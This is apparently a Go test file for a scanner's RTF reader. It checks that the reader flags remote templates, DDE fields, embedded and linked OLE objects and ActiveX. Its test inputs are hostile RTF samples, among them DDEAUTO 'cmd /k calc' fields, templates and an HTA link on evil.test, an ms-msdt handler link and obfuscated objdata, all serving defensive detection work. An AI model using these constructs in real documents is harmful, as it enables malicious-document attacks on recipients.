package rtf

import (
	"context"
	"encoding/binary"
	"encoding/hex"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"assay/scan"
	"assay/scan/container"
	"assay/verify/vectors"
)

// read reads a file and returns what came to light.
func read(content string) (container.Verdict, []container.Member) {
	f := &container.File{Content: []byte(content), Budget: container.NewBudget(context.Background(), container.Limits{}, nil)}
	if !(Reader{}).Reads(f) {
		return container.Verdict{State: "not read"}, nil
	}
	var members []container.Member
	v := Reader{}.Read(f, func(m container.Member) bool {
		members = append(members, m)
		return true
	})
	return v, members
}

// traits returns the traits of a verdict, in order.
func traits(v container.Verdict) string {
	var out []string
	for _, s := range v.Signs {
		if !slices.Contains(out, string(s.Trait)) {
			out = append(out, string(s.Trait))
		}
	}
	sort.Strings(out)
	return strings.Join(out, " ")
}

// text returns a text of OLE 1.0.
func text(s string) string { return number32(len(s)+1) + s + "\x00" }

func number32(n int) string { return string(binary.LittleEndian.AppendUint32(nil, uint32(n))) }

// object returns an embedded object of OLE 1.0.
func object(class, native string) string {
	return number32(0x501) + number32(2) + text(class) + number32(0) + number32(0) + number32(len(native)) + native
}

// pack returns what Object Packager makes of a file.
func pack(name, content string) string {
	return "\x02\x00" + name + "\x00" + `C:\Users\a\` + name + "\x00" + "\x00\x00\x03\x00" + text(`C:\Temp\`+name) + number32(len(content)) + content
}

// hexed writes octets as RTF has them.
func hexed(s string) string { return hex.EncodeToString([]byte(s)) }

func TestSigns(t *testing.T) {
	storage := cfb + strings.Repeat("x", 600)
	ole := hexed(object("Equation.3", storage))
	for _, c := range []struct{ name, in, want string }{
		{"plain", `{\rtf1\ansi hello}`, ""},
		{"template", `{\rtf1{\*\template http://evil.test/t.dotm}x}`, "remote-template"},
		{"template by UNC", `{\rtf1{\*\template \\\\evil.test\\share\\t.dotm}x}`, "remote-template"},
		{"template on a file server", `{\rtf1{\*\template file://///evil.test/t.dotm}x}`, "remote-template"},
		{"template with escapes", `{\rtf1{\*\template \'68\'74tp\u58 ?//evil.test/t.dotm}x}`, "remote-template"},
		{"template on a drive", `{\rtf1{\*\template C:\\Users\\a\\Normal.dotm}x}`, ""},
		{"field", `{\rtf1{\field{\*\fldinst DDEAUTO cmd "/k calc"}{\fldrslt x}}}`, "dde"},
		{"field in runs", `{\rtf1{\field{\*\fldinst {\b DD}{\i EA}UTO cmd "/k calc"}{\fldrslt x}}}`, "dde"},
		{"field in lower case", `{\rtf1{\field{\*\fldinst{ ddeauto c:\\\\windows }}}}`, "dde"},
		{"field without group", `{\rtf1{\*\fldinst DDE cmd}}`, "dde"},
		{"field of numbers", `{\rtf1{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69}} cmd}}}`, "dde"},
		{"picture from elsewhere", `{\rtf1{\field{\*\fldinst INCLUDEPICTURE "http://evil.test/a.png" \\d}}}`, "remote-object"},
		{"picture from the drive", `{\rtf1{\field{\*\fldinst INCLUDEPICTURE "C:\\\\a.png"}}}`, ""},
		{"hyperlink", `{\rtf1{\field{\*\fldinst HYPERLINK "http://example.org/"}{\fldrslt DDEAUTO}}}`, ""},
		{"hyperlink to a handler", `{\rtf1{\field{\*\fldinst HYPERLINK "ms-msdt:/id PCWDiagnostic"}}}`, "remote-object"},
		{"date", `{\rtf1{\field{\*\fldinst DATE \\@ "d MMMM yyyy"}{\fldrslt 1}}}`, ""},
		{"text about RTF", `{\rtf1 use \\objdata and \\object, \{\\*\\template http://x.test/\} or \\objupdate, DDEAUTO}`, ""},
		{"object", `{\rtf1{\object\objemb{\*\objclass Equation.3}{\*\objdata ` + ole + `}}}`, "embedded-object"},
		{"object without a star", `{\rtf{\objdata ` + ole + `}}`, "embedded-object"},
		{"linked object", `{\rtf1{\object\objautlink\objupdate{\*\objdata ` + ole + `}}}`, "embedded-object remote-object"},
		{"updated object", `{\rtf1{\object\objupdate{\*\objdata ` + ole + `}}}`, "embedded-object remote-object"},
		{"control", `{\rtf1{\object\objocx{\*\objdata ` + ole + `}}}`, "activex embedded-object"},
		{"mail merge", `{\rtf1{\*\mailmerge{\mmconnectstr http://evil.test/a}}}`, "remote-object"},
	} {
		if v, _ := read(c.in); v.State != scan.Inspected || traits(v) != c.want {
			t.Errorf("%s: %s %q [%s], want [%s]", c.name, v.State, v.Method, traits(v), c.want)
		}
	}
}

// TestObjects expects an object to be yielded whatever stands between its digits.
func TestObjects(t *testing.T) {
	storage := cfb + strings.Repeat("storage ", 100)
	digits := hexed(object("Word.Document.8", storage))
	half := len(digits)/2 | 1
	spread := strings.Join(strings.Split(digits, ""), "\r\n \t")
	for name, in := range map[string]string{
		"plain":                   `{\rtf1{\object{\*\objdata ` + digits + `}}}`,
		"capitals":                `{\rtf1{\object{\*\objdata ` + strings.ToUpper(digits) + `}}}`,
		"blanks":                  `{\rtf1{\object{\*\objdata ` + spread + `}}}`,
		"garbage":                 `{\rtf1{\object{\*\objdata ` + strings.Join(strings.SplitAfter(digits, "00"), "xyz_%") + `}}}`,
		"unknown destination":     `{\rtf1{\object{\*\objdata ` + digits[:half] + `{\*\foo abcdef}` + digits[half:] + `}}}`,
		"known destination":       `{\rtf1{\object{\*\objdata ` + digits[:half] + `{\proptype\staticval abc}` + digits[half:] + `}}}`,
		"groups":                  `{\rtf1{\object{\*\objdata {{` + digits[:half] + `}{}` + digits[half:] + `}}}}`,
		"digits in a false group": `{\rtf1{\object{\*\objdata ` + digits[:half] + `{abc}` + digits[half:] + `}}}`,
		"hidden in a destination": `{\rtf1{\object{\*\objdata {\*\foo ` + digits + `}}}}`,
		"control words":           `{\rtf1{\object{\*\objdata ` + digits[:half] + `\ulnone\foo12 ` + digits[half:] + `}}}`,
		"escape":                  `{\rtf1{\object{\*\objdata ` + digits[:half-1] + `\'` + "0a" + digits[half-1:] + `}}}`,
		"escape after half":       `{\rtf1{\object{\*\objdata ` + digits[:half-1] + `f\'11` + digits[half-1:] + `}}}`,
		"a digit too many":        `{\rtf1{\object{\*\objdata f` + digits + `}}}`,
		"no header":               `{\rtf1{\object{\*\objdata 0123` + hexed(storage) + `}}}`,
		"binary":                  `{\rtf1{\object{\*\objdata \bin` + itoa(len(object("a", storage))) + " " + object("a", storage) + `}}}`,
		"binary in part":          `{\rtf1{\object{\*\objdata ` + digits[:40] + `\bin4 ` + unhexed(digits[40:48]) + digits[48:] + `}}}`,
		"cut off":                 `{\rtf1{\object{\*\objdata ` + digits,
		"in an ignored group":     `{\rtf1{\*\foo{\bar{\object{\*\objdata ` + digits + `}}}}}`,
		"in a result":             `{\rtf1{\object{\result{\pict 00{\object{\*\objdata ` + digits + `}}}}}}`,
		"behind a false picture":  `{\rtf1{\pict\bin99999999 {\object{\*\objdata ` + digits + `}}}}`,
		"short mark":              `{\rt{\object{\objdata ` + digits + `}}}`,
	} {
		v, members := read(in)
		if !strings.Contains(traits(v), "embedded-object") {
			t.Errorf("%s: [%s]", name, traits(v))
		}
		if !slices.ContainsFunc(members, func(m container.Member) bool { return strings.HasPrefix(string(m.Content), storage) }) {
			t.Errorf("%s: the object is not yielded: %d members", name, len(members))
		}
	}
}

func itoa(n int) string {
	if n < 10 {
		return string(rune('0' + n))
	}
	return itoa(n/10) + string(rune('0'+n%10))
}

func unhexed(s string) string {
	b, _ := hex.DecodeString(s)
	return string(b)
}

// TestPackage expects the file inside of a package, with its name.
func TestPackage(t *testing.T) {
	for _, class := range []string{"Package", "PACKAGE"} {
		_, members := read(`{\rtf1{\object{\*\objdata ` + hexed(object(class, pack("run.js", "alert(1)"))) + `}}}`)
		if len(members) != 1 || members[0].Name != "run.js" || string(members[0].Content) != "alert(1)" {
			t.Errorf("%s: %+v", class, members)
		}
	}
	linked := number32(0x501) + number32(1) + text("htmlfile") + text("http://evil.test/x.hta") + text("")
	v, _ := read(`{\rtf1{\object{\*\objdata ` + hexed(linked) + `}}}`)
	if traits(v) != "embedded-object remote-object" || len(v.Links) != 1 || v.Links[0].URL != "http://evil.test/x.hta" {
		t.Errorf("linked: %+v", v)
	}
}

// TestPictures expects what is no text to be yielded.
func TestPictures(t *testing.T) {
	_, members := read(`{\rtf1{\*\shppict{\pict{\*\picprop{\sp{\sn a}{\sv beef}}}\pngblip\picw10 ` + hexed("\x89PNG picture") + `}}{\*\themedata ` + hexed("PK\x03\x04") + `}}`)
	if len(members) != 2 || string(members[0].Content) != "\x89PNG picture" || string(members[1].Content) != "PK\x03\x04" {
		t.Errorf("%+v", members)
	}
}

// TestBitmap expects a bitmap as a file.
func TestBitmap(t *testing.T) {
	_, members := read(`{\rtf1{\pict\dibitmap0 ` + hexed("\x28\x00\x00\x00"+strings.Repeat("\x01", 60)) + `}}`)
	if len(members) != 1 || !strings.HasPrefix(string(members[0].Content), "BM\x4e\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28") {
		t.Errorf("%+v", members)
	}
}

func TestLinks(t *testing.T) {
	v, _ := read(`{\rtf1{\field{\*\fldinst{HYPERLINK "https://example.org/a?b" \\o "x"}}{\fldrslt here}}{\field{\*\fldinst HYPERLINK \\l "top"}}}`)
	if len(v.Links) != 1 || v.Links[0] != (container.Link{URL: "https://example.org/a?b", Source: scan.FromAnchor}) {
		t.Errorf("%+v", v.Links)
	}
}

func TestSamples(t *testing.T) {
	dir := vectors.Path(t, "scan/samples/active")
	for name, want := range map[string]string{
		"rtf-clean.rtf": "", "rtf-template.rtf": "remote-template", "oletools-rtfobj-issue_251.rtf": "embedded-object remote-object",
	} {
		content, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		v, members := read(string(content))
		if v.State != scan.Inspected || traits(v) != want {
			t.Errorf("%s: %s %q [%s], want [%s]", name, v.State, v.Method, traits(v), want)
		}
		if strings.Contains(want, "embedded") && !slices.ContainsFunc(members, func(m container.Member) bool { return strings.HasPrefix(string(m.Content), cfb) }) {
			t.Errorf("%s: the object is not yielded: %+v", name, members)
		}
	}
}

// TestBounded expects what is made to take long not to.
func TestBounded(t *testing.T) {
	const n = 2 << 20
	for name, in := range map[string]string{
		"groups":       `{\rtf1` + strings.Repeat("{", n),
		"closed":       `{\rtf1` + strings.Repeat("}", n),
		"fields":       `{\rtf1` + strings.Repeat(`{\field{\*\fldinst `, n/20),
		"objects":      `{\rtf1` + strings.Repeat(`{\objdata 01`, n/12),
		"flat objects": `{\rtf1` + strings.Repeat(`{\objdata 01}`, n/12),
		"binaries":     `{\rtf1{\objdata ` + strings.Repeat(`\bin1 x`, n/8),
		"templates":    `{\rtf1{\template ` + strings.Repeat("a", n),
		"quotes":       `{\rtf1{\*\fldinst QUOTE ` + strings.Repeat("65 ", n/3),
		"compound":     `{\rtf1{\objdata ` + strings.Repeat(hexed(cfb), n/16),
		"long word":    `{\rtf1\` + strings.Repeat("a", n),
		"unicode":      `{\rtf1{\*\fldinst ` + strings.Repeat(`\uc1000\u65`, n/12),
	} {
		start := time.Now()
		read(in)
		if took := time.Since(start); took > 15*time.Second {
			t.Errorf("%s takes %v", name, took)
		}
	}
}

func FuzzRead(f *testing.F) {
	for _, s := range []string{
		`{\rtf1{\object{\*\objdata ` + hexed(object("Package", pack("a.js", "x"))) + `}}}`, `{\rtf1{\object{\*\objdata 01{\*\foo 02}\'0103\bin2 ab}}}`,
		`{\rtf1{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69}} cmd}{\fldrslt x}}}`, `{\rtf1{\*\template http://a.test/}\u-10\uc2\bin-1}`, `{\rt{\pict\bin5 abcde}}`,
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(_ *testing.T, content []byte) {
		budget := container.NewBudget(context.Background(), container.Limits{Members: 50, Octets: 1 << 20, Member: 1 << 20, Time: time.Second}, nil)
		file := &container.File{Content: content, Budget: budget}
		Reader{}.Reads(file)
		Reader{}.Read(file, func(container.Member) bool { return true })
	})
}

func BenchmarkRead(b *testing.B) {
	content := `{\rtf1\ansi` + strings.Repeat(`{\par\pard\plain some text of a letter}`+"\r\n", 1500) + `{\object{\*\objdata ` + hexed(object("a", strings.Repeat("x", 20000))) + `}}}`
	b.SetBytes(int64(len(content)))
	b.ReportAllocs()
	for b.Loop() {
		read(content)
	}
}
